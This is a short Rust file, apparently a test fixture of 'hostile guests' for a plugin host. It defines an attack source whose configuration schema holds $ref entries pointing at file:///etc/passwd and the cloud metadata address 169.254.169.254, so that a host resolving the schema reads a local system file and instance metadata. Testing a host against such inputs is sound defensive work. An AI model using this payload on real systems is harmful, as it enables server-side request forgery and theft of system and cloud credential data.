//! The attack: a configuration schema that refers to a file and a server, to make the host fetch them.

use hostile_guests::{Source, Specification, specification};

impl Source for Attack {
    fn spec() -> Specification {
        let config_schema = r#"{"allOf":[{"$ref":"file:///etc/passwd"},
            {"$ref":"http://169.254.169.254/latest/meta-data/"}]}"#;
        Specification { config_schema: config_schema.to_owned(), ..specification() }
    }
}

hostile_guests::source!(Attack);
